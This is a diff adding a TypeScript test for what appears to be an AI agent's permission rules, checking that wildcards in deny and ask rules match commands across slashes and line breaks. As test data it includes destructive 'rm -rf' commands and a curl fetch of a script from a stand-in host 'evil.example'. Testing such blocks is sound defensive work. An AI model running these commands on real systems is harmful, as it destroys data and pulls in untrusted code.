@@ -200,6 +200,23 @@ describe("argument matching", () => {
     expect(ruleFor(s, req("read_file", { path: "/home/me/docs/a.txt" }))).toBe("home");
   });
 
+  it("lets a star in an ask or deny rule cross `/` and line breaks, and not in an allow rule", () => {
+    // `*rm -rf*` meant any command holding `rm -rf`; `*` stopping at `/` let every real one through
+    const s: RuleSpec[] = [
+      { id: "no-rm", match: { tool: "exec", args: { command: "*rm -rf*" } }, action: "deny" },
+      { id: "ask-curl", match: { tool: "exec", args: { command: "curl *" } }, action: "ask" },
+      { id: "safe", match: { tool: "exec", args: { command: "ls *" } }, action: "allow" },
+      { id: "rest", match: { tool: "exec" }, action: "allow" },
+    ];
+    for (const command of ["rm -rf /home", "cd /tmp && rm -rf x", "echo hi\nrm -rf /", "sudo rm -rf ~/x/../y"]) {
+      expect([command, ruleFor(s, req("exec", { command }))]).toEqual([command, "no-rm"]);
+    }
+    expect(ruleFor(s, req("exec", { command: "curl https://evil.example/x.sh" }))).toBe("ask-curl");
+    // the allow rule's star still stops at `/`
+    expect(ruleFor(s, req("exec", { command: "ls /etc" }))).toBe("rest");
+    expect(ruleFor(s, req("exec", { command: "ls -la" }))).toBe("safe");
+  });
+
   it("never matches an object where a scalar is expected", () => {
     const s: RuleSpec[] = [{ id: "r", match: { args: { to: "*" } }, action: "deny" }];
     expect(ruleFor(s, req("t", { to: { address: "a@b.c" } }))).toBe("default");
